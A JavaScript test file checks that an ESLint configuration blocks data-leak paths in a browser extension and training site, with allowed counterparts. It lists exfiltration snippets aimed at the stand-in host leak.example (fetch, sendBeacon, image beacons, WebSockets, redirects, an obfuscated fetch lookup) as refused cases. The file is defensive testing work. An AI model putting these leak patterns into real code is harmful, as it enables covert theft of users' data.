// Each way out that the lint closes, tried: a line that must be refused, and lines like those that ship, which must not.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { ESLint } from 'eslint';
import { ROOT } from './harness.mjs';

const eslint = new ESLint({ cwd: ROOT, overrideConfigFile: join(ROOT, 'tests/browser/lint/eslint.config.mjs') });

const REFUSED_EVERYWHERE = [
  'fetch("https://leak.example/");',
  'window.fetch("https://leak.example/");',
  'globalThis["fe" + "tch"]("https://leak.example/");',
  'new XMLHttpRequest();',
  'new WebSocket("wss://leak.example/");',
  'new EventSource("https://leak.example/");',
  'navigator.sendBeacon("https://leak.example/", "x");',
  'const n = navigator; n.sendBeacon("https://leak.example/", "x");',
  'new Image().src = "https://leak.example/";',
  'document.images[0].src = "https://leak.example/";',
  'document.createElement("img");',
  'document.createElement("a").click();',
  'document.body.setAttribute("background", "https://leak.example/");',
  'new RTCPeerConnection();',
  'self.RTCPeerConnection;',
  'open("https://leak.example/");',
  'window.open("https://leak.example/");',
  'location.href = "https://leak.example/";',
  'location = "https://leak.example/";',
  'window.location = "https://leak.example/";',
  'location.assign("https://leak.example/");',
  'history.pushState(null, "", "?note");',
  'chrome.tabs.create({ url: "https://leak.example/" });',
  'chrome.tabs.update(1, { url: "https://leak.example/" });',
  'chrome.storage.sync.set({ note: "text" });',
  'chrome.downloads.download({ url: "https://leak.example/" });',
  'localStorage.setItem("note", "text");',
  'indexedDB.open("notes");',
  'document.cookie = "note=text";',
  'document.title = "text";',
  'console.log("text");',
  'eval("1");',
  'new Function("return 1")();',
  'setTimeout("fetch()", 1);',
  'import("https://leak.example/x.js");',
  'const x = "./x.js"; import(x);',
  'document.body.innerHTML = "<img>";',
  'document.body.insertAdjacentHTML("beforeend", "<img>");',
  'document.write("<img>");',
  'new DOMParser();',
];

const REFUSED_IN_CONTENT = [
  'document.body.append("x");',
  'document.createElement("div");',
  'document.body.textContent = "x";',
  'document.body.classList.add("x");',
  'document.body.dataset.x = "1";',
  'document.body.style.color = "red";',
  'chrome.storage.local.get("x");',
  'window.postMessage("x", "*");',
  'window.parent.postMessage("x", "*");',
  'document.dispatchEvent(new Event("x"));',
];

const REFUSED_IN_SAVE = [
  'document.createElement("img");',
  'const link = document.createElement("a"); link.href = "https://leak.example/"; link.click();',
  'const link = document.createElement("a"); link.href = address; link.click();',
  'const link = document.createElement("a"); link.ping = URL.createObjectURL(new Blob([]));',
  'fetch("https://leak.example/");',
];

/** On the trainers' site, where a little more is open in one file each. */
const REFUSED_ON_THE_SITE = [
  ['www/links.js', 'const link = document.createElement("a"); link.href = "https://leak.example/";'],
  ['www/links.js', 'const link = document.createElement("a"); link.href = `https://leak.example/${text}`;'],
  ['www/links.js', 'const link = document.createElement("a"); link.href = `${text}`;'],
  ['www/links.js', 'document.createElement("img");'],
  ['www/one-file/links.js', 'const link = document.createElement("a"); link.href = `https://leak.example/#${text}`;'],
  ['www/one-file/links.js', 'const link = document.createElement("a"); link.href = `codebook.html#${text}`;'],
  ['www/one-file/engine-parts.js', 'fetch("knowledge.pack");'],
  ['www/one-file/scenario-files.js', 'fetch(`scenarios/${name}`);'],
  ['www/library.js', 'fetch(`scenarios/${name}`);'],
  ['extension/panel/engine.js', 'const PACK = new URL("../knowledge.pack", import.meta.url).href; fetch(PACK);'],
  ['www/scenario-files.js', 'fetch("https://leak.example/");'],
  ['www/scenario-files.js', 'fetch(`https://leak.example/${text}`);'],
  ['www/scenario-files.js', 'fetch(`scenarios/${name}`, { method: "POST", body: text });'],
  ['www/look.js', 'localStorage.setItem("theme", "dark");'],
  ['www/look.js', 'keep("note", text);'],
  ['www/look.js', 'const store = sessionStorage;'],
  ['www/site.js', 'document.createElement("a");'],
  ['www/site.js', 'fetch("scenarios/index.json");'],
  ['www/site.js', 'sessionStorage.setItem("note", "text");'],
  ['www/practise.js', 'localStorage.setItem("note", "text");'],
  ['www/progress.js', 'localStorage.setItem("note", "text");'],
  ['www/progress.js', 'const store = localStorage; store.setItem("note", "text");'],
  ['www/progress.js', 'const store = localStorage; const KIND = "x"; store.setItem(KIND, text);'],
  ['www/progress.js', 'localStorage.note = "text";'],
];

const ALLOWED = [
  ['extension/panel/save.js', 'const link = document.createElement("a"); link.href = URL.createObjectURL(new Blob(["x"])); link.click();'],
  ['extension/panel/view.js', 'document.body.textContent = "x"; export const x = 1;'],
  ['extension/panel/view.js', 'navigator.clipboard.writeText("x");'],
  ['extension/panel/engine-parts.js', 'const PACK = new URL("../knowledge.pack", import.meta.url).href; fetch(PACK);'],
  ['www/one-file/links.js', 'const link = document.createElement("a"); link.href = `?codebook#${encodeURIComponent("E11.6")}`;'],
  ['www/links.js', 'const link = document.createElement("a"); link.href = `codebook.html#${encodeURIComponent("E11.6")}`;'],
  ['www/scenario-files.js', 'fetch(`scenarios/${"index.json"}`);'],
  ['www/progress.js', 'const KIND = "x"; const written = () => "{}"; const store = localStorage; store.setItem(KIND, written());'],
  ['extension/content/paint.js', 'CSS.highlights.set("x", new Highlight(document.createRange()));'],
];

async function refusals(file, source) {
  const [result] = await eslint.lintText(source, { filePath: join(ROOT, file) });
  return result.messages.filter((message) => message.severity === 2);
}

for (const source of REFUSED_EVERYWHERE) {
  test(`refused: ${source}`, async () => {
    assert.notDeepEqual(await refusals('extension/panel/view.js', source), []);
    assert.notDeepEqual(await refusals('extension/panel/engine-parts.js', source), []);
    assert.notDeepEqual(await refusals('extension/background.js', source), []);
    assert.notDeepEqual(await refusals('extension/content/main.js', source), []);
  });
}

for (const source of REFUSED_IN_CONTENT) {
  test(`refused in the content script: ${source}`, async () => {
    assert.notDeepEqual(await refusals('extension/content/main.js', source), []);
  });
}

for (const source of REFUSED_IN_SAVE) {
  test(`refused where files are saved: ${source}`, async () => {
    assert.notDeepEqual(await refusals('extension/panel/save.js', source), []);
  });
}

for (const [file, source] of REFUSED_ON_THE_SITE) {
  test(`refused in ${file}: ${source}`, async () => {
    assert.notDeepEqual(await refusals(file, source), []);
  });
}

for (const [file, source] of ALLOWED) {
  test(`allowed in ${file}: ${source}`, async () => {
    const messages = await refusals(file, source);
    assert.deepEqual(messages.map((message) => message.message), []);
  });
}
